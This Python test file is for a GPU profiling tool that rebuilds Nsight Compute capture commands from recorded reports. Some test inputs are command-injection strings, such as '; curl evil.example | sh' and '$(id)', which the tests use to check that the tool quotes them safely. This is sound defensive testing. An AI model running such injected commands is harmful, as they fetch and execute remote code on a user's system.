"""What a report lacks, a command that really captures it, and what is said before anything else.

The commands of these tests were run on an H200: the reports that they made lack nothing."""

import re
import shlex
from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st

from keet.analysis.coverage import find_coverage, report_cautions
from keet.analysis.recapture import keet_command, recapture_command, recipe_options
from keet.diagnosis.diagnosis import diagnose
from keet.explanation.headline import verdict_of
from keet.profile import KernelName, Profile
from keet.report import read_profile
from tests.conftest import REPORTS, needs_corpus
from tests.rows import each_row
from tests.unit.analysis.made_up_launch import made_up
from tests.unit.analysis.real_launches import changed, public_profile, with_data


def gaps_of(profile: Profile) -> set[str]:
    return {gap.id for gap in find_coverage(profile).gaps}


def test_what_reports_of_several_sets_lack(profile_of) -> None:
    coverage = find_coverage(profile_of("tour_full.ncu-repz"))
    assert coverage.gaps == ()
    assert coverage.command is None
    assert "source text" in coverage.present
    coverage = find_coverage(profile_of("tour_basic.ncu-repz"))
    assert set(coverage.present) == {"speed of light", "occupancy", "launch"}
    assert coverage.build_hint == "nvcc -lineinfo"
    assert coverage.command == (
        f"ncu {recipe_options()} --clock-control none"
        " -o /tmp/keet-out/tour_basic_more /tmp/keet-reports/tour_plain"
    )
    # zoo was built with -lineinfo and captured without --import-source.
    assert gaps_of(profile_of("zoo.ncu-repz")) == {"source_text"}
    coverage = find_coverage(profile_of("zoo.ncu-repz"))
    assert coverage.command.startswith(f"ncu {recipe_options()} --clock-control none")
    assert coverage.build_hint is None
    profile = read_profile(REPORTS / "zoo.ncu-repz", source="tests/data/programs")
    assert gaps_of(profile) == set()
    recorded = "ncu --set basic --section SchedulerStats ./app"
    coverage = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded))
    unavailable = {gap.id for gap in coverage.gaps if gap.unavailable}
    assert unavailable == {"scheduler"}
    command = find_coverage(profile_of("tour_lines.ncu-repz")).command
    assert command.count("--import-source yes") == 1
    profile = with_command(profile_of("metrics_only.ncu-repz"), None)
    command = find_coverage(profile).command
    assert command.startswith(f"ncu {recipe_options()} ")
    assert command.endswith(
        "-k 'regex:^(transpose_rows|transpose_tiles|normalise)$' -o report ./your_program"
    )
    profile = with_command(profile_of("tour_basic.ncu-repz"), "ncu -o x ./app 'a; id")
    command = find_coverage(profile).command
    assert command.endswith("-o report ./your_program")
    assert "id" not in command.partition("-o report")[2]
    by_keet = "ncu --export /t/.keet-profile-a1/r.ncu-rep ./app"
    for program, told in ((" ; id", "./app ';' id"), (' "', "./your_program")):
        assert keet_command(with_command(profile, by_keet + program)) == f"keet profile -- {told}"
    # Numbers of single instructions are not to be had for one: nothing else is missing.
    profile = read_profile(RUNS / "waits_range.ncu-repz")
    assert keet_command(profile) == "keet profile --range -- ./waits range"
    found = find_coverage(profile)
    assert [gap.id for gap in found.gaps if not gap.unavailable] == []
    assert found.command is None
    assert keet_command(read_profile(RUNS / "waits.ncu-repz")) == "keet profile -- ./waits"


def test_ranges_and_graphs_have_no_source_to_lack(profile_of) -> None:
    """ncu refuses --import-source for them, so it must not be advised."""
    for profile in map(profile_of, ("range.ncu-rep", "graph.ncu-repz")):
        assert {"source_lines", "source_text"}.isdisjoint(gaps_of(profile))
        assert "--import-source" not in find_coverage(profile).command
        assert "SourceCounters" not in find_coverage(profile).command


def with_command(profile: Profile, command: str | None) -> Profile:
    return replace(profile, provenance=profile.provenance._replace(command_line=command))


@each_row("function, pattern", [
    ("gemm", "gemm"), ("step_12", "step_12"),
    ("julia_bb_4477", r"julia_bb_\d+"), ("smooth$241", r"smooth\$\d+"),
    ("copy_blocked[v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
    ("copy_blocked[abi:v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
])  # fmt: skip
def test_the_filter_is_the_function_as_the_next_run_names_it(function: str, pattern: str) -> None:
    """Names of public reports in a report of ours: neither compiler is on the machine that made
    it."""
    profile = with_command(edited([f"{function}(float *)"], [function]), None)
    command = find_coverage(profile).command
    assert shlex.split(command)[-4] == f"regex:^({pattern})$"
    assert re.search(pattern, function)


@each_row("recorded, rest", [
    ("/opt/ncu ./app", "./app"),
    ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
    ("ncu --section=LaunchStats --section Own ./app --set", "--section Own ./app --set"),
    ("ncu -f --set basic --nvtx ./app --metrics x", "--nvtx ./app --metrics x"),
    ("ncu --details-all -f -o x ./app", "--details-all -o x_more ./app"),
    ("ncu --set basic -o x ./app", "-o x_more ./app"),
    ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
    ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
    ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
    # A report may come from anybody: what it recorded must not become a second command.
    ("ncu -o x ./app ; curl evil.example | sh #",
     "-o x_more ./app ';' curl evil.example '|' sh '#'"),
    ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
    ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
    ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
    ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
    ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
])  # fmt: skip
def test_the_recorded_command_with_all_that_keet_asks_for(recorded, rest, profile_of) -> None:
    """The report at hand is not written over, the program keeps its own options, and words are
    quoted where a shell needs it."""
    command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
    assert command == f"ncu {recipe_options()} {rest}"


METRICS_ONLY = read_profile(REPORTS / "metrics_only.ncu-repz")
_UNQUOTED = re.compile(r"""'[^']*'|"(?:[^"$`\\!]|\\\w)*\"""")
shell_texts = st.lists(st.sampled_from([*"ab-;&|<>$`(){}*?~!#\\\"' \n", "-o ", "=x", "\u2028"]))


@given(shell_texts.map("".join))
def test_recorded_text_is_never_shell_syntax(recorded: str) -> None:
    profile = with_command(METRICS_ONLY, f"ncu {recorded}")
    outside = _UNQUOTED.sub("", recapture_command(profile))
    assert not set(outside) & set(";&|<>$`(){}*?~!#\"'\n")


RUNS = REPORTS.parent / "runs"


@each_row("options, program, found", [
    ("--replay-mode range ", "--replay-mode kernel", "--range "),
    ("--replay-mode=app-range ", "--replay-mode kernel", "--range "),
    ("", "--replay-mode range", ""),  # an option of the program
])  # fmt: skip
def test_ranges_by_either_replay(options: str, program: str, found: str) -> None:
    line = f"ncu {options}--export /t/.keet-profile-a1/report_0.ncu-rep ./app {program}"
    told = keet_command(with_command(read_profile(RUNS / "waits.ncu-repz"), line))
    assert told == f"keet profile {found}-- ./app {program}"


FILL = (
    "void at::native::vectorized_elementwise_kernel<(int)4, at::native::FillFunctor<float>, "
    "std::array<char *, (unsigned long)1>>(int, T2, T3)"
)
RANDOM = (
    "void at::native::<unnamed>::distribution_elementwise_grid_stride_kernel<float, (int)4>(long)"
)
COPY = "void at::native::vectorized_elementwise_kernel<(int)4, at::native::CopyFunctor>(int)"
THRUST = (
    "void thrust::cuda_cub::core::_kernel_agent<thrust::cuda_cub::__parallel_for::ParallelForAgent<"
    "thrust::cuda_cub::__uninitialized_fill::functor<thrust::device_ptr<float>, float>>>(T2)"
)

OPENACC = "__pgi_uacc_cuda_fill"


def edited(names: list[str], functions: list[str] | None = None) -> Profile:
    """A report of ours, as if its first launches were of these kernels."""
    profile = read_profile(REPORTS / "tour_basic.ncu-repz")
    functions = functions or [name.partition("<")[0].rpartition("::")[2] for name in names]
    named = [KernelName(function, name, "") for function, name in zip(functions, names)]
    pairs = zip(profile.launches, named, strict=False)
    return replace(profile, launches=tuple(with_data(e, e.data, name) for e, name in pairs))


@each_row("names", [[FILL], [FILL, RANDOM], [RANDOM, RANDOM], [THRUST], [OPENACC]])
def test_only_fills_and_random_numbers(names: list[str], wording) -> None:
    (said,) = report_cautions(edited(names))
    assert said.startswith("Every launch" if len(names) > 1 else "The only launch")
    assert "-k regex:YOUR_KERNEL" in said
    if names == [FILL]:
        wording(said)
    assert f"--launch-skip {len(names)})." in said
    command = recapture_command(with_command(edited(names), "ncu -k fill -c 3 --nvtx -o x ./app"))
    assert command.endswith("--nvtx -o x_more -k regex:YOUR_KERNEL ./app")
    assert find_coverage(edited(names)).build_hint is None  # nobody builds these kernels


@each_row(
    ("names", "pattern"),
    [([OPENACC], "regex:YOUR_KERNEL"), ([FILL, "scale(float *)"], "'regex:^(scale)$'")],
)
def test_the_next_report_leaves_out_kernels_that_fill(names: list[str], pattern: str) -> None:
    profile = edited([name.partition("(float")[0] for name in names])
    assert f"-k {pattern} -o" in recapture_command(with_command(profile, None))


def test_another_kernel_may_be_the_one_that_was_meant() -> None:
    for names in ([FILL, COPY], [FILL, "my_fill_kernel(float *)"], ["fill_kernel(float *)"], []):
        assert report_cautions(edited(names)) == []


@needs_corpus
def test_public_reports_of_an_old_gpu_and_without_the_users_kernel() -> None:
    coverage = find_coverage(public_profile("BrennenTaylor__Twisty"))  # ncu no longer profiles it
    assert coverage.gaps
    assert coverage.command is None
    assert "7.0" in coverage.obstacle
    (said,) = report_cautions(public_profile("JakeFlasher"))  # stopped after the random inputs
    assert "PyTorch ATen" in said


def recorded(report: str, program: str) -> Profile:
    line = f"/usr/bin/ncu -f -o out --set basic {program}"
    return with_command(read_profile(REPORTS / report), line)


@each_row("program, folder", [
    ("./build/Debug/app -n 3", "Debug"), (r'"C:\work\x64\Debug\app.exe"', "Debug"),
    ("/home/me/cmake-build-debug/app", "cmake-build-debug"), ("build-debug/app", "build-debug"),
    *((program, None) for program in ("./build/Release/app", "./debugger/app", "./nodebug/app")),
    *((program, None) for program in ("./app", "./Debug", "./app debug/x")),
    ("/home/me/target/debug/app", None),  # of Cargo: the profile of the host code
])  # fmt: skip
def test_a_debug_folder_is_a_suspicion(program: str, folder: str | None, wording) -> None:
    """Counted opcodes show whether it is a debug build."""
    said = report_cautions(recorded("tour_basic.ncu-repz", program))
    assert len(said) == bool(folder)
    if folder:
        assert f" {folder}: " in said[0]
        wording(said, case=program)
    assert report_cautions(recorded("tour_full.ncu-repz", program)) == []


@each_row("options, why", [("--set default", "call that set basic"), ("--set full", "")])
def test_no_section(options: str, why: str, wording) -> None:
    """As if nothing had been collected but the shape of the launch."""
    launch = made_up({}, grid_size=1000.0, block_size=256.0)
    profile = replace(edited(["scale(float *)"]), launches=(launch,))
    (said,) = report_cautions(with_command(profile, f"ncu {options} ./app"))
    assert why in said
    wording(said, verdict_of(diagnose(launch, ())).headline, case=options)


@each_row("options, ghz, said", [
    ("--clock-control none", 1.0, True), ("--clock-control=none", 1.9, False), ("-f", 1.0, False),
])  # fmt: skip
def test_a_low_clock(options: str, ghz: float, said: bool) -> None:
    """An edited snapshot: a launch of 1 ms at another clock, on a GPU of at most 1.98 GHz."""
    numbers = {"gpu__time_duration.sum": 1e6, "gpc__cycles_elapsed.max": ghz * 1e6}
    numbers |= {f"{part}__cycles_elapsed.avg.per_second": ghz * 1e9 for part in ("gpc", "sm")}
    numbers["device__attribute_clock_rate"] = 1_980_000
    profile = with_command(edited(["scale(float *)"]), f"ncu {options} ./app")
    launch = changed(profile.launches[0], numbers.get)
    found = report_cautions(replace(profile, launches=(launch,)))
    assert len(found) == said
    assert all("SM clock of 1.00 GHz; the GPU's largest is 1.98 GHz" in each for each in found)
